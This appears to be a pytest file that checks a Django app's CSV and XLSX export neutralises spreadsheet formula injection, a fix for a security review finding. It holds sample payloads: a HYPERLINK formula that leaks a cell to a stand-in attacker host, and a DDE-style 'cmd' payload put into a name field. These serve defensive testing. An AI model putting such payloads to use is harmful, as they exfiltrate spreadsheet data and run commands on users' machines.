"""F3 of the security review: a name typed as a formula is exported as text, in CSV and XLSX; numbers stay numbers.

openpyxl wrote `=HYPERLINK(...)` as a live formula (`<f>`) and the CSV carried it raw, reading other cells of the
official's workbook when opened.
"""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from littlegiant.enterprises.exporting import export_filings
from littlegiant.enterprises.models import AnnualFiling

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B3,"点击查看")'


@pytest.fixture
def booby_trapped(alpha):
    alpha.name = FORMULA
    alpha.save()
    AnnualFiling.objects.filter(enterprise=alpha).update(net_profit=Decimal("-5"))
    return alpha


def _export(kind: str) -> bytes:
    out = io.BytesIO()
    export_filings(out, kind, by=None)
    return out.getvalue()


def test_the_csv_cell_starts_with_an_apostrophe_and_negative_numbers_stay_numbers(booby_trapped):
    rows = list(csv.DictReader(io.StringIO(_export("csv").decode("utf-8-sig"))))
    assert rows[0]["name"] == "'" + FORMULA
    assert rows[0]["net_profit"] == "-5"


def test_the_xlsx_cell_is_a_string_not_a_formula(booby_trapped):
    sheet = load_workbook(io.BytesIO(_export("xlsx"))).active
    header = [cell.value for cell in sheet[1]]
    name = sheet.cell(row=2, column=header.index("name") + 1)
    profit = sheet.cell(row=2, column=header.index("net_profit") + 1)
    assert (name.data_type, name.value) == ("s", "'" + FORMULA)
    assert (profit.data_type, profit.value) == ("n", -5)


@pytest.mark.parametrize("start", ["+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(alpha, start):
    alpha.name = f"{start}cmd|' /C calc'!A0"
    alpha.save()
    rows = list(csv.DictReader(io.StringIO(_export("csv").decode("utf-8-sig"), newline="")))
    assert rows[0]["name"] == "'" + alpha.name
